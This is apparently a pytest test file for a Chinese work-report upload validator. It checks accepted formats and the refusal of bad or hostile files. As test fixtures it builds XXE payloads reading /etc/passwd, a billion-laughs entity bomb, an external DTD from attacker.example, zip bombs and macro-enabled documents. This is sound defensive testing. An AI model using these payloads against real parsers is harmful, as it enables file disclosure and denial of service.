"""Taking reports in safely: .docx, .txt (four encodings) and pasted text accepted; every
other kind refused with how to save as .docx; hostile files refused before python-docx
opens them (issue 6 item 2: import bad input). Each refusal is a ShuzhiError with a 4xx
status and a Chinese message, and nothing else happens."""

from __future__ import annotations

import io
import random
import re
import struct
import zipfile

import pytest

from shuzhi.errors import ShuzhiError
from shuzhi.reports import uploads
from shuzhi.reports.counting import Count
from shuzhi.reports.uploads import (
    MAX_PARAGRAPHS,
    MAX_UPLOAD_BYTES,
    MacroDocument,
    TooManyParagraphs,
    UnreadableUpload,
    UnsafeUpload,
    UnsupportedUpload,
    UploadError,
    UploadTooLarge,
    read_paste,
    read_upload,
)
from tests.reports.docx_builder import docx_of, part_of, rezip

TEXT = "2023年度述职报告\n各位领导、同志们：\n一、主要做法及成效\n全年开展党课12次。"
SAVE_AS = "请在 Word 或 WPS 中“另存为”.docx 格式后再上传"
_CJK = re.compile(r"[\u4e00-\u9fff]")


@pytest.fixture(scope="module")
def good_docx() -> bytes:
    return docx_of(TEXT.split("\n"))


def _refused(exc: pytest.ExceptionInfo[UploadError], cls: type, status: int, *fragments: str) -> None:
    assert isinstance(exc.value, cls)
    assert isinstance(exc.value, ShuzhiError) and exc.value.status == status
    assert _CJK.search(exc.value.message), exc.value.message
    for f in fragments:
        assert f in exc.value.message, exc.value.message


@pytest.fixture
def docx_never_opened(monkeypatch: pytest.MonkeyPatch) -> None:
    """Fail loudly if python-docx is asked to open the file (the checks must come first)."""
    import docx

    def refuse(*_a, **_k):
        raise AssertionError("python-docx opened a file the checks should have refused")

    monkeypatch.setattr(docx, "Document", refuse)


# --- what is accepted --------------------------------------------------------------------


def test_docx_accepted_with_original_bytes(good_docx: bytes) -> None:  # issue 6: import, original kept
    imp = read_upload("述职报告.docx", good_docx)
    assert imp.kind == "docx" and imp.original == good_docx
    assert [b.text for b in imp.doc.blocks] == TEXT.split("\n")
    assert len(imp.sha256) == 64


def test_docx_content_wins_over_a_wrong_name(good_docx: bytes) -> None:  # issue 6: import by content
    assert read_upload("报告.doc", good_docx).kind == "docx"


@pytest.mark.parametrize(
    ("encoding", "bom"),
    [
        ("utf-8", b""),
        ("utf-8", b"\xef\xbb\xbf"),
        ("gb18030", b""),
        ("utf-16-le", b"\xff\xfe"),
        ("utf-16-be", b"\xfe\xff"),
    ],
)
def test_text_encodings(encoding: str, bom: bytes) -> None:  # issue 6: .txt in UTF-8/BOM/GB18030/UTF-16
    data = bom + TEXT.replace("\n", "\r\n").encode(encoding)
    imp = read_upload("report.txt", data)
    assert imp.kind == "txt" and imp.original == data
    assert [b.text for b in imp.doc.blocks] == TEXT.split("\n")
    assert imp.count() == read_paste(TEXT).count()


def test_pasted_text() -> None:  # issue 6: pasted text
    imp = read_paste("  一、主要做法\n\n\n全年开展党课12次。  ")
    assert imp.kind == "paste" and [b.text for b in imp.doc.blocks] == ["一、主要做法", "全年开展党课12次。"]
    assert imp.count() == Count(6 + 9, 6 + 10)


def test_empty_paste_refused() -> None:  # issue 6: import bad input
    with pytest.raises(UploadError) as exc:
        read_paste(" \n\u3000\n")
    _refused(exc, UnreadableUpload, 422, "没有内容")


def test_empty_file_refused() -> None:  # issue 6: import bad input
    with pytest.raises(UploadError) as exc:
        read_upload("a.docx", b"")
    _refused(exc, UnreadableUpload, 422, "空")


# --- size: checked first --------------------------------------------------------------


def test_50_mb_file_refused_before_anything_else() -> None:  # issue 6: 50 MB files, 413
    data = b"\x89PNG" + bytes(50 * 1024 * 1024)  # would be a 415 if the type were looked at first
    with pytest.raises(UploadError) as exc:
        read_upload("大报告.docx", data)
    _refused(exc, UploadTooLarge, 413, "50.0 MB", f"{MAX_UPLOAD_BYTES / 1048576:.1f} MB")


def test_huge_paste_refused() -> None:  # issue 6: size limit on pasted text too
    with pytest.raises(UploadError) as exc:
        read_paste("字" * (MAX_UPLOAD_BYTES // 3 + 1))
    _refused(exc, UploadTooLarge, 413)


# --- other file types: refused with how to save as .docx --------------------------------

OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024)


@pytest.mark.parametrize(
    ("name", "data", "says"),
    [
        ("述职报告.doc", OLE2, ".doc"),
        ("述职报告.wps", OLE2, ".wps"),
        ("述职报告.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "PDF"),
        ("述职报告.rtf", b"{\\rtf1\\ansi 2023}", "RTF"),
        ("述职报告.docx", b"\x89PNG\r\n\x1a\n" + bytes(100), "PNG"),
        ("述职报告.docx", b"%PDF-1.4 renamed", "PDF"),
        ("述职报告.docx", random.Random(6).randbytes(4096), "改了扩展名"),
        ("述职报告.html", "<html><body>述职报告</body></html>".encode(), ".html"),
        ("述职报告.txt", random.Random(7).randbytes(4096), "编码"),
    ],
)
def test_other_types_refused_with_save_as(
    name: str, data: bytes, says: str
) -> None:  # issue 6: .doc/.wps/.pdf, renamed files
    with pytest.raises(UploadError) as exc:
        read_upload(name, data)
    _refused(exc, UnsupportedUpload, 415, says, SAVE_AS.split("“")[0])
    assert "另存为" in exc.value.message


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, blob in members.items():
            zf.writestr(name, blob)
    return out.getvalue()


@pytest.mark.parametrize(
    ("members", "says"),
    [
        ({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}, "Excel"),
        ({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}, "OpenDocument"),
        ({"readme.txt": b"hello"}, "压缩包"),
    ],
)
def test_zips_that_are_not_word_refused(
    members: dict[str, bytes], says: str
) -> None:  # issue 6: renamed files
    with pytest.raises(UploadError) as exc:
        read_upload("报告.docx", _zip(members))
    _refused(exc, UnsupportedUpload, 415, says, "另存为")


def _set_main_content_type(data: bytes, new: str) -> bytes:
    ct = part_of(data, "[Content_Types].xml").decode()
    ct = ct.replace("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", new)
    return rezip(data, replace={"[Content_Types].xml": ct.encode()})


def test_word_template_refused(good_docx: bytes, docx_never_opened: None) -> None:  # issue 6: not a .docx
    data = _set_main_content_type(
        good_docx, "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
    )
    with pytest.raises(UploadError) as exc:
        read_upload("模板.docx", data)
    _refused(exc, UnsupportedUpload, 415, "模板", "另存为")


def test_truncated_docx_refused(good_docx: bytes) -> None:  # issue 6: broken file, 422
    with pytest.raises(UploadError) as exc:
        read_upload("报告.docx", good_docx[: len(good_docx) // 2])
    _refused(exc, UnreadableUpload, 422, "损坏")


# --- macros ------------------------------------------------------------------------------


def test_vba_project_refused(
    good_docx: bytes, docx_never_opened: None
) -> None:  # issue 6: macro-enabled files
    data = rezip(good_docx, add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})
    with pytest.raises(UploadError) as exc:
        read_upload("报告.docx", data)
    _refused(exc, MacroDocument, 415, "宏", "另存为")


def test_docm_content_type_refused(good_docx: bytes, docx_never_opened: None) -> None:  # issue 6: .docm
    data = _set_main_content_type(good_docx, "application/vnd.ms-word.document.macroEnabled.main+xml")
    with pytest.raises(UploadError) as exc:
        read_upload("报告.docm", data)
    _refused(exc, MacroDocument, 415, "宏")


# --- zip bombs: refused from the zip directory alone -------------------------------------


def test_high_compression_ratio_refused(
    good_docx: bytes, docx_never_opened: None
) -> None:  # issue 6: zip bombs
    data = rezip(good_docx, add={"word/media/image1.png": bytes(8 * 1024 * 1024)})  # ~1000:1
    assert len(data) < 100_000
    with pytest.raises(UploadError) as exc:
        read_upload("报告.docx", data)
    _refused(exc, UnsafeUpload, 422, "压缩炸弹")


def _declare_size(data: bytes, member: str, size: int) -> bytes:
    """Rewrite the central directory so ``member`` claims ``size`` unpacked bytes."""
    buf = bytearray(data)
    pos = buf.find(b"PK\x01\x02")
    while pos != -1:
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", buf, pos + 28)
        name = bytes(buf[pos + 46 : pos + 46 + name_len]).decode()
        if name == member:
            struct.pack_into("<I", buf, pos + 24, size)
            return bytes(buf)
        pos = buf.find(b"PK\x01\x02", pos + 46 + name_len + extra_len + comment_len)
    raise AssertionError(member)


def test_declared_unpacked_size_refused(
    good_docx: bytes, docx_never_opened: None
) -> None:  # issue 6: zip bombs
    data = _declare_size(good_docx, "word/document.xml", 3_000_000_000)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert zf.getinfo("word/document.xml").file_size == 3_000_000_000
    with pytest.raises(UploadError) as exc:
        read_upload("报告.docx", data)
    _refused(exc, UnsafeUpload, 422, "解压后过大")


def test_too_many_members_refused(good_docx: bytes, docx_never_opened: None) -> None:  # issue 6: zip bombs
    data = rezip(good_docx, add={f"word/media/x{i}.bin": b"x" for i in range(uploads.MAX_ZIP_MEMBERS)})
    with pytest.raises(UploadError) as exc:
        read_upload("报告.docx", data)
    _refused(exc, UnsafeUpload, 422, "部件过多")


# --- XML: no DOCTYPE, so no entities -----------------------------------------------------

XXE = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"
)
LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>\n'
    '<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&lol3;</w:styles>'
)


@pytest.mark.parametrize(
    ("part", "xml"),
    [
        ("word/document.xml", XXE.encode()),
        ("word/document.xml", b"\xff\xfe" + XXE.replace("UTF-8", "UTF-16").encode("utf-16-le")),
        ("word/document.xml", XXE.replace("\n<!DOCTYPE", "\n<!-- a comment -->\n<!doctype").encode()),
        ("word/styles.xml", LAUGHS.encode()),
        (
            "_rels/.rels",
            b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><Relationships/>',
        ),
        ("[Content_Types].xml", b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY e "x">]><Types/>'),
    ],
)
def test_doctype_refused(
    good_docx: bytes, part: str, xml: bytes, docx_never_opened: None
) -> None:  # issue 6: XXE / DTDs
    with pytest.raises(UploadError) as exc:
        read_upload("报告.docx", rezip(good_docx, replace={part: xml}))
    _refused(exc, UnsafeUpload, 422, "DOCTYPE")


def test_doctype_in_footnotes_refused() -> None:  # issue 6: XXE in a part python-docx leaves as bytes
    from tests.reports.docx_builder import DocxBuilder

    b = DocxBuilder()
    b.footnote("正文", "脚注")
    data = b.bytes()
    notes = part_of(data, "word/footnotes.xml").decode()
    notes = notes.replace("?>", '?><!DOCTYPE w:footnotes [<!ENTITY x SYSTEM "file:///etc/hostname">]>', 1)
    with pytest.raises(UploadError) as exc:
        read_upload("报告.docx", rezip(data, replace={"word/footnotes.xml": notes.encode()}))
    _refused(exc, UnsafeUpload, 422, "DOCTYPE")


# --- paragraph cap -----------------------------------------------------------------------


def test_100k_paragraphs_refused(
    good_docx: bytes, docx_never_opened: None
) -> None:  # issue 6: documents with 100k paragraphs
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    rng = random.Random(100)
    # varied text, so the part compresses like a real document (not like a zip bomb)
    body = "".join(
        f"<w:p><w:r><w:t>{''.join(chr(rng.randrange(0x4E00, 0x9FA5)) for _ in range(8))}</w:t></w:r></w:p>"
        for _ in range(100_000)
    )
    xml = f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{w}"><w:body>{body}</w:body></w:document>'
    data = rezip(good_docx, replace={"word/document.xml": xml.encode()})
    with pytest.raises(UploadError) as exc:
        read_upload("报告.docx", data)
    _refused(exc, TooManyParagraphs, 422, f"超过 {MAX_PARAGRAPHS} 段")


@pytest.mark.parametrize("chunk", [5, 7, 64])
def test_streamed_paragraph_count_across_chunks(
    monkeypatch: pytest.MonkeyPatch, chunk: int
) -> None:  # issue 6: the cap counts right
    monkeypatch.setattr(uploads, "_CHUNK", chunk)
    rng = random.Random(chunk)
    pieces = [b"<w:p>x</w:p>", b'<w:p w:rsidR="00A1">y</w:p>', b"<w:p/>", b"<w:pPr/>", b"<w:proofErr/>"]
    for _ in range(50):
        parts = [rng.choice(pieces) for _ in range(rng.randrange(0, 200))]
        expected = sum(1 for p in parts if p.startswith((b"<w:p>", b"<w:p ", b"<w:p/")))
        with zipfile.ZipFile(io.BytesIO(_zip({"word/document.xml": b"".join(parts)}))) as zf:
            assert uploads._count_paragraphs(zf, "word/document.xml") == expected


def test_text_paragraph_cap_boundary() -> None:  # issue 6: the cap, exactly
    assert len(read_paste("段\n" * MAX_PARAGRAPHS).doc.blocks) == MAX_PARAGRAPHS
    with pytest.raises(UploadError) as exc:
        read_paste("段\n" * (MAX_PARAGRAPHS + 1))
    _refused(exc, TooManyParagraphs, 422, str(MAX_PARAGRAPHS))


# --- nothing crashes -----------------------------------------------------------------


def test_damaged_docx_never_crashes(good_docx: bytes) -> None:  # issue 6: nothing crashes
    rng = random.Random(2024)
    outcomes = {"ok": 0, "refused": 0}
    for _ in range(300):
        data = bytearray(good_docx)
        for _ in range(rng.choice([1, 4, 32])):
            data[rng.randrange(len(data))] = rng.randrange(256)
        if rng.random() < 0.2:
            del data[rng.randrange(len(data)) :]
        try:
            read_upload("报告.docx", bytes(data))
            outcomes["ok"] += 1
        except UploadError as exc:
            assert 400 <= exc.status < 500 and _CJK.search(exc.message)
            outcomes["refused"] += 1
    assert outcomes["refused"] > 0
